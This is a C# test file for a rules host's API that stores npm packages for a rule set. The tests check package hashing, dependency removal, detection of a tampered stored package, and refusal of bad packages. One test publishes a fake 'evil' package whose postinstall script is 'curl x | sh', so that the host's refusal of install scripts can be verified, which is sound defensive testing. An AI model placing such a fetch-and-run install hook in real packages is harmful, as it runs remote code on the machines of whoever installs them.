using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using Dapper;
using Microsoft.Extensions.DependencyInjection;
using Rules.Engine.Compilation;
using Rules.Engine.Pipeline;
using Rules.Engine.RuleSets;
using Rules.Host.RuleSets;
using Rules.Host.Storage;
using Rules.Host.Tests.Http;
using Rules.Host.Tests.Management;

namespace Rules.Host.Tests.Modules;

/// <summary>/api/v2/modules: npm packages for the rule set kept in the database, vetted from a loopback fake registry.</summary>
public sealed class StoredModulesApiTests : IAsyncLifetime
{
    private static readonly Dictionary<string, string> LeftPad = new()
    {
        ["package.json"] = """{ "name": "left-pad", "version": "1.3.0", "main": "index.js" }""",
        ["index.js"] = "const repeat = require('repeat-string'); module.exports = (s, n, c) => repeat(c || ' ', Math.max(0, n - String(s).length)) + s;",
    };

    private static readonly Dictionary<string, string> RepeatString = new()
    {
        ["package.json"] = """{ "name": "repeat-string", "version": "1.6.1" }""",
        ["index.js"] = "module.exports = (s, n) => { let out = ''; for (let i = 0; i < n; i++) out += s; return out; };",
    };

    private const string PadRule = "function (user, context, callback) { context.idToken['https://x/pad'] = require('left-pad')('7', 3, '0'); callback(null, user, context); }";

    private FakeNpmRegistry _registry = null!;
    private RulesHostFactory _factory = null!;
    private HttpClient _client = null!;

    public async Task InitializeAsync()
    {
        _registry = await FakeNpmRegistry.StartAsync();
        _registry.Publish("repeat-string", "1.6.1", RepeatString).Publish("left-pad", "1.3.0", LeftPad, new Dictionary<string, string> { ["repeat-string"] = "^1.6.0" });
        _factory = ManagementApi.NewHost(new Dictionary<string, string?> { ["Rules:ModulesRegistry"] = _registry.Address });
        _client = _factory.CreateManagementClient();
    }

    public async Task DisposeAsync()
    {
        _client.Dispose();
        _factory.Dispose();
        await _registry.DisposeAsync();
    }

    private RuleSetProvider Provider => _factory.Services.GetRequiredService<RuleSetProvider>();

    [Fact]
    public async Task A_package_added_through_the_API_is_stored_with_its_hash_in_the_rule_set_version_and_rules_run_it()
    {
        var versionBefore = await _client.LiveRuleSetVersionAsync();

        var added = await _client.PostAsJsonAsync("/api/v2/modules", new { name = "left-pad", version = "1.3.0" });

        added.StatusCode.Should().Be(HttpStatusCode.Created, await added.Content.ReadAsStringAsync());
        var versionAfter = await _client.LiveRuleSetVersionAsync();
        versionAfter.Should().NotBe(versionBefore, "the packages are part of the rule-set version");
        added.Headers.GetValues("X-Rules-Version").Should().Equal(versionAfter);
        var list = (await _client.GetFromJsonAsync<JsonObject>("/api/v2/modules"))!;
        list["packages"]!.AsArray().Select(p => (p!["name"]!.GetValue<string>(), p["direct"]!.GetValue<bool>()))
            .Should().Equal(("left-pad", true), ("repeat-string", false));
        list["packages"]![0]!["files_hash"]!.GetValue<string>().Should().StartWith("sha256-");
        using (var connection = _factory.Services.GetRequiredService<Database>().Open())
        {
            connection.ExecuteScalar<long>("SELECT COUNT(*) FROM rule_packages").Should().Be(2);
        }

        (await _client.PostAsJsonAsync("/api/v2/rules", new { name = "Pad", script = PadRule, order = 0 })).StatusCode.Should().Be(HttpStatusCode.Created);
        (await _client.GetFromJsonAsync<JsonObject>("/api/v2/modules"))!["required"]!.AsArray().Select(r => r!.GetValue<string>()).Should().Equal("left-pad");

        // The live set's packages are the stored ones: a rule compiled against them runs their code.
        var compiled = RuleCompiler.Compile(new RuleSet([new RuleSource("pad", "pad.js", PadRule)], packages: Provider.Current!.RuleSet.RuleSet.Packages));
        compiled.Succeeded.Should().BeTrue(string.Join("\n", compiled.Errors.Select(e => e.Format())));
        using var pipeline = new RulePipeline(compiled.Compiled!);
        var outcome = pipeline.Execute(TransactionJson.Parse("""{ "user": { "user_id": "auth0|a" }, "context": {} }"""));
        outcome.IdToken["https://x/pad"]!.GetValue<string>().Should().Be("007");

        var audit = _factory.Services.GetRequiredService<Database>().Open()
            .Query<string>("SELECT description FROM audit_log WHERE type = 'module_added' ORDER BY description").ToArray();
        audit.Should().HaveCount(2).And.Contain(d => d.Contains("added the package left-pad@1.3.0"));
    }

    [Fact]
    public async Task Removing_a_package_a_rule_requires_is_refused_and_otherwise_removes_its_unneeded_dependencies()
    {
        (await _client.PostAsJsonAsync("/api/v2/modules", new { name = "left-pad", version = "1.3.0" })).StatusCode.Should().Be(HttpStatusCode.Created);
        var rule = await (await _client.PostAsJsonAsync("/api/v2/rules", new { name = "Pad", script = PadRule, order = 0 })).JsonAsync();

        (await (await _client.DeleteAsync("/api/v2/modules/repeat-string")).Auth0ErrorAsync(409)).Should().Contain("left-pad@1.3.0 depend(s) on repeat-string");
        (await (await _client.DeleteAsync("/api/v2/modules/left-pad")).Auth0ErrorAsync(400)).Should().Contain("does not compile").And.Contain("require('left-pad')");
        (await _client.GetFromJsonAsync<JsonObject>("/api/v2/modules"))!["packages"]!.AsArray().Should().HaveCount(2, "nothing was saved");

        (await _client.DeleteAsync("/api/v2/rules/" + rule["id"]!.GetValue<string>())).StatusCode.Should().Be(HttpStatusCode.NoContent);
        (await _client.DeleteAsync("/api/v2/modules/left-pad")).StatusCode.Should().Be(HttpStatusCode.NoContent);

        (await _client.GetFromJsonAsync<JsonObject>("/api/v2/modules"))!["packages"]!.AsArray().Should().BeEmpty("repeat-string went with the package that needed it");
        using var connection = _factory.Services.GetRequiredService<Database>().Open();
        connection.ExecuteScalar<long>("SELECT COUNT(*) FROM audit_log WHERE type = 'module_removed'").Should().Be(2);
    }

    [Fact]
    public async Task A_stored_package_changed_in_the_database_is_refused_when_the_rule_set_next_compiles()
    {
        (await _client.PostAsJsonAsync("/api/v2/modules", new { name = "left-pad", version = "1.3.0" })).StatusCode.Should().Be(HttpStatusCode.Created);
        (await _client.PostAsJsonAsync("/api/v2/rules", new { name = "Pad", script = PadRule, order = 0 })).StatusCode.Should().Be(HttpStatusCode.Created);
        var live = await _client.LiveRuleSetVersionAsync();
        using (var connection = _factory.Services.GetRequiredService<Database>().Open())
        {
            connection.Execute("""UPDATE rule_packages SET files = '{"index.js":"module.exports = () => \"owned\";"}' WHERE name = 'repeat-string'""");
        }

        // The next compile of the stored set (an edit here; a restart or another instance alike) checks the files.
        var refused = await _client.PostAsJsonAsync("/api/v2/rules", new { name = "Other", script = "function (u, c, cb) { cb(null, u, c); }" });

        (await refused.Auth0ErrorAsync(400)).Should().Contain("left-pad -> repeat-string: repeat-string@1.6.1 in the database (rule_packages) does not match the lock");
        (await _client.LiveRuleSetVersionAsync()).Should().Be(live, "the version that was live, vetted, keeps serving");
    }

    [Fact]
    public async Task A_refused_package_saves_nothing()
    {
        _registry.Publish("evil", "1.0.0", new Dictionary<string, string> { ["index.js"] = "" }, scripts: new JsonObject { ["postinstall"] = "curl x | sh" });

        (await (await _client.PostAsJsonAsync("/api/v2/modules", new { name = "evil", version = "1.0.0" })).Auth0ErrorAsync(400)).Should().Contain("install scripts");
        (await (await _client.PostAsJsonAsync("/api/v2/modules", new { name = "left-pad" })).Auth0ErrorAsync(400)).Should().Contain("an exact version");

        (await _client.GetFromJsonAsync<JsonObject>("/api/v2/modules"))!["packages"]!.AsArray().Should().BeEmpty();
    }
}
